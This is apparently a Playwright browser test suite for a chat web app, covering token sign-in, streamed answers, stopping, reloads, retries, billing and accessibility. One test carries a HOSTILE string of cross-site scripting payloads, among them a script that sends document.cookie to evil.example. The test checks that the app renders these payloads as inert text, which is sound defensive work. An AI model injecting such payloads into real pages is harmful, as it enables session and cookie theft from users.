"""The chat, as a person has it in a real browser."""

from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest

from db import conversations, lookup
from jobs.sandbox.server import Sandbox, running
from jobs.sandbox.settings import SandboxSettings
from router.figures import money
from tests.browser import Window, answering, provider, window
from tests.gateways import TOKEN, Served, serving, settings_for
from tests.lanes import KEY

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route

ESSAY = "Write a long essay about rivers."
LONG, TOKENS_PER_SECOND = 90, 100


@pytest.fixture(scope="module")
def sandbox(chromium: "Browser") -> Iterator[Sandbox]:
    with running(SandboxSettings(tokens_per_second=TOKENS_PER_SECOND, answer_tokens=LONG)) as server:
        yield server


@pytest.fixture(scope="module")
def desk(chromium: "Browser", served: Served) -> Iterator[Window]:
    with window(chromium, served) as opened:
        yield opened


@pytest.fixture
def chat(desk: Window, sandbox: Sandbox) -> Iterator[Window]:
    """A new chat."""
    sandbox.reset()
    desk.page.set_viewport_size({"width": 1200, "height": 500})
    desk.page.goto("/")
    desk.page.locator(".welcome").wait_for()
    yield desk
    assert (desk.troubles, desk.elsewhere) == ([], [])


def last_job(served: Served) -> dict[str, Any]:
    job = lookup.job(served.router.store, lookup.jobs(served.router.store, limit=1)["jobs"][0]["id"])
    assert job is not None
    return job


def test_the_token_opens_it_and_nothing_else_does(chromium: "Browser", served: Served) -> None:
    with window(chromium, served, signed_in=False) as opened:
        page = opened.page
        page.goto("/")
        page.get_by_label("Token").fill("not the token")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_text("That is not the token.").wait_for()
        page.get_by_label("Token").fill(TOKEN)
        page.get_by_role("button", name="Sign in").click()
        page.get_by_label("Message").wait_for()
        kept = page.evaluate("JSON.stringify([localStorage, sessionStorage, document.cookie, location.href])")
        assert TOKEN not in kept
        assert TOKEN not in page.content()


def test_an_answer_is_seen_to_grow_and_says_what_it_cost_and_why(chat: Window, served: Served) -> None:
    chat.ask(ESSAY)
    grown = [chat.begun()]
    for _ in range(4):
        grown.append(chat.begun(len(grown[-1]) + 10))
    whole = chat.ended()
    job = last_job(served)
    assert len(set(grown)) == 5
    assert all(whole.startswith(part.rstrip()) for part in grown)
    assert whole == job["text"]
    about = chat.about()
    (attempt,) = job["attempts"]
    assert about.startswith("stream")
    assert f"first token {attempt['first_token_ms']:.0f} ms" in about
    assert money(job["cost_usd"]) in about
    assert job["decision"]["reason"] in about


def test_stop_ends_it_upstream_and_keeps_what_was_said(chat: Window, sandbox: Sandbox, served: Served) -> None:
    chat.ask(ESSAY)
    said = chat.begun(40)
    chat.page.get_by_role("button", name="Stop the answer").click()
    assert chat.ended().startswith(said)
    assert "Stopped." in chat.page.locator(".answer .note").inner_text()
    (row,) = sandbox.billed(1)["rows"]
    assert row["usage"]["output"] < LONG
    assert last_job(served)["state"] == "cancelled"


def test_a_reload_in_the_middle_goes_on_without_a_second_bill(chat: Window, sandbox: Sandbox, served: Served) -> None:
    chat.ask(ESSAY)
    said = chat.begun(60)
    chat.page.reload()
    assert chat.begun(len(said)).startswith(said.rstrip())
    assert chat.ended() == last_job(served)["text"]
    assert len(sandbox.bill()["rows"]) == 1


def test_a_reload_before_the_first_word_finds_the_answer_by_its_key(chat: Window, sandbox: Sandbox) -> None:
    sandbox.faults([{"kind": "slow_first_token", "seconds": 1.0, "times": 1}])
    chat.ask(ESSAY)
    chat.page.locator(".answer.waiting").wait_for()
    chat.page.reload()
    assert len(chat.ended()) > 100
    assert chat.page.locator(".question").inner_text() == ESSAY
    assert len(sandbox.bill()["rows"]) == 1


def test_who_is_cut_off_from_the_server_goes_on_where_it_was(chat: Window, sandbox: Sandbox, served: Served) -> None:
    chat.page.route("**/api/chat/stream", _cut_short)
    chat.ask(ESSAY)
    assert chat.ended() == last_job(served)["text"]
    assert len(sandbox.bill()["rows"]) == 1
    chat.page.unroute("**/api/chat/stream")


def _cut_short(route: "Route") -> None:
    """The answer's first events, and the half of one; then the line is dead."""
    response = route.fetch()
    events = response.text().split("\n\n")
    head = {name: value for name, value in response.headers.items() if name.startswith(("x-", "content-type"))}
    route.fulfill(status=200, headers=head, body="\n\n".join(events[:12]) + "\n\nid: 1.5\nda")


def test_who_looks_at_a_board_meanwhile_comes_back_to_the_answer(
    chat: Window, sandbox: Sandbox, served: Served
) -> None:
    chat.ask(ESSAY)
    said = chat.begun(30)
    chat.page.get_by_role("link", name="Jobs", exact=True).click()
    chat.page.get_by_role("heading", name="Jobs").wait_for()
    chat.page.get_by_role("link", name="Chat", exact=True).click()
    assert chat.begun(len(said)).startswith(said.rstrip())
    assert chat.ended() == last_job(served)["text"]
    assert len(sandbox.bill()["rows"]) == 1


def test_a_cut_answer_is_shown_as_one_and_can_be_tried_again(chat: Window, sandbox: Sandbox) -> None:
    sandbox.faults([{"kind": "cut", "after": 12, "times": 1}])
    chat.ask(ESSAY)
    partial = chat.ended()
    assert partial
    assert "was cut off" in chat.page.get_by_role("alert").inner_text()
    chat.page.get_by_role("button", name="Try again").click()
    chat.page.get_by_role("alert").wait_for(state="detached")
    assert len(chat.ended()) > len(partial)
    assert chat.page.locator(".answer").count() == 1
    assert chat.page.locator(".question").count() == 1


def test_who_tries_again_in_a_tab_that_is_behind_is_shown_what_came_since(
    chat: Window, sandbox: Sandbox, served: Served
) -> None:
    chat.ask("My name is Ada. One word.")
    chat.ended()
    jobs = [last_job(served)["id"]]
    chat.page.wait_for_url("**/c/*")
    behind = chat.page.context.new_page()
    behind.goto(chat.page.url)
    behind.get_by_role("button", name="Try again").wait_for()
    chat.ask("What is my name? One word.")
    chat.page.locator(".answer").nth(1).wait_for()
    chat.ended()
    jobs.append(last_job(served)["id"])
    behind.get_by_role("button", name="Try again").click()
    assert "went on elsewhere" in behind.get_by_role("alert").inner_text()
    assert behind.locator(".question").all_inner_texts() == ["My name is Ada. One word.", "What is my name? One word."]
    links = behind.locator(".answer .job-link").evaluate_all("all => all.map(one => one.getAttribute('href'))")
    assert links == [f"/jobs/{job}" for job in jobs]
    assert len(sandbox.billed(2)["rows"]) == 2, "nothing was asked anew"
    behind.get_by_role("button", name="Try again").click()
    behind.get_by_role("alert").wait_for(state="detached")
    behind.locator(f".answer .job-link[href='/jobs/{jobs[1]}']").wait_for(state="detached")
    assert len(sandbox.billed(3)["rows"]) == 3
    assert behind.locator(".question").count() == 2
    behind.close()


def test_a_question_that_was_refused_is_the_one_that_is_tried_again(chat: Window, served: Served) -> None:
    chat.ask("My name is Ada. One word.")
    chat.ended()
    told = '{"error": {"message": "no room.", "type": "rate_limit_error", "param": null, "code": "busy"}}'
    chat.page.route("**/api/chat/stream", lambda route: route.fulfill(status=429, body=told))
    chat.ask("What is my name? One word.")
    chat.page.get_by_role("alert").wait_for()
    chat.page.unroute("**/api/chat/stream")
    chat.page.get_by_role("button", name="Try again").click()
    chat.page.get_by_role("alert").wait_for(state="detached")
    chat.page.wait_for_function("() => document.querySelectorAll('.answer .job-link').length === 2")
    (newest, *_) = conversations.page(served.router.store, owner=None)
    _, turns = conversations.find(served.router.store, newest.id) or (None, [])
    assert [turn.said for turn in turns] == ["My name is Ada. One word.", "What is my name? One word."]
    assert chat.page.locator(".question").count() == 2


def test_an_error_before_the_first_word_is_told(chat: Window, sandbox: Sandbox, served: Served) -> None:
    sandbox.faults([{"kind": "status", "status": 400, "code": "bad_thing", "message": "no such luck", "times": 1}])
    chat.ask(ESSAY)
    chat.ended()
    assert "no such luck" in chat.page.get_by_role("alert").inner_text()
    assert chat.page.locator(".answer .job-link").last.get_attribute("href") == f"/jobs/{last_job(served)['id']}"


def test_an_answer_at_the_length_limit_is_not_taken_for_a_whole_one(chat: Window, sandbox: Sandbox) -> None:
    sandbox.faults([{"kind": "length", "times": 1}])
    chat.ask(ESSAY)
    chat.ended()
    assert "not whole" in chat.page.locator(".answer .note").inner_text()


def test_a_conversation_is_kept_and_goes_on(chat: Window, served: Served) -> None:
    chat.ask("My name is Ada. One word.")
    chat.ended()
    chat.ask("What is my name? One word.")
    chat.page.locator(".answer").nth(1).wait_for()
    chat.ended()
    (newest, *_) = conversations.page(served.router.store, owner=None)
    chat.page.goto("/")
    chat.page.get_by_role("link", name="My name is Ada. One word.").first.click()
    chat.page.locator(".answer").nth(1).wait_for()
    assert chat.page.locator(".question").count() == 2
    assert chat.page.url.endswith(f"/c/{newest.id}")


def test_the_view_follows_unless_its_reader_has_scrolled_up(chat: Window) -> None:
    chat.page.set_viewport_size({"width": 500, "height": 330})
    scroller = chat.page.locator(".scroller")
    below = "one => one.scrollHeight - one.scrollTop - one.clientHeight"
    chat.ask(ESSAY)
    chat.page.wait_for_function("() => document.querySelector('.scroller').scrollTop > 40")
    assert scroller.evaluate(below) < 20
    scroller.hover()
    chat.page.mouse.wheel(0, -2000)
    chat.page.get_by_role("button", name="To the end").wait_for()
    chat.ended()
    assert scroller.evaluate("one => one.scrollTop") == 0
    chat.page.get_by_role("button", name="To the end").click()
    assert scroller.evaluate(below) < 20


HOSTILE = """<script>document.title = "pwned"; fetch("https://evil.example/?" + document.cookie)</script>

<img src=x onerror="document.title='pwned'"> ![pixel](https://evil.example/p.png?q=secret) <svg onload=alert(1)>

[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>) <a href="javascript:alert(1)">x</a>

```html
</code></pre><script>alert(2)</script>
```

| <b>a</b> | b |
|---|---|
| <iframe src="//evil.example"></iframe> | `<i>` |
"""


def test_an_answer_full_of_html_and_script_stays_text(
    chromium: "Browser", tmp_path_factory: pytest.TempPathFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    with provider(answering(HOSTILE)) as upstream:
        settings = settings_for(upstream.url, tmp_path_factory.mktemp("hostile"))
        with serving(settings) as gateway, window(chromium, gateway) as opened:
            opened.page.goto("/")
            opened.ask(ESSAY)
            shown = opened.ended()
            for words in ("<script>document.title", "<img src=x", "<svg onload=alert(1)>", "</code></pre><script>",
                          "<b>a</b>", "<iframe src=", "javascript:alert(1)"):  # fmt: skip
                assert words in shown
            made = opened.page.locator(".prose").last.locator(
                "script, img, svg:not(.icon), iframe, b, i, [onerror], [onload]"
            )
            assert made.count() == 0
            links = opened.page.locator(".prose a").evaluate_all("all => all.map(one => one.href)")
            assert links
            assert all(link.startswith("https://evil.example/") for link in links)
            assert "pwned" not in opened.page.title()


def test_the_board_of_a_job_that_runs_shows_its_answer_as_it_grows(
    chat: Window, served: Served, sandbox: Sandbox
) -> None:
    sandbox.faults([{"kind": "silence", "after": 20, "seconds": 1.5, "times": 1}])
    chat.ask(ESSAY)
    chat.begun(40)
    chat.page.goto(f"/jobs/{last_job(served)['id']}")
    growing = chat.page.get_by_label("Answer so far")
    growing.wait_for()
    first = growing.locator(".prose").inner_text().strip()
    chat.page.get_by_role("heading", name="Answer", exact=True).wait_for()
    assert not growing.is_visible()
    whole = chat.page.locator(".paper .prose").first.inner_text().strip()
    assert whole.startswith(first)
    assert len(whole) > len(first) > 20


def test_on_a_phone_the_list_is_opened_and_left_by_keys_alone(chat: Window) -> None:
    chat.ask("Hello")
    chat.ended()
    page = chat.page
    page.set_viewport_size({"width": 390, "height": 800})
    toggle = page.get_by_role("button", name="Conversations")
    toggle.focus()
    page.keyboard.press("Enter")
    assert toggle.get_attribute("aria-expanded") == "true"
    focused = "() => document.activeElement.innerText.trim()"
    assert page.evaluate(focused) == "New chat"
    page.keyboard.press("Tab")
    assert page.evaluate(focused) == "Hello"
    page.keyboard.press("Escape")
    assert toggle.get_attribute("aria-expanded") == "false"
    assert page.evaluate("() => document.activeElement.getAttribute('aria-label')") == "Conversations"
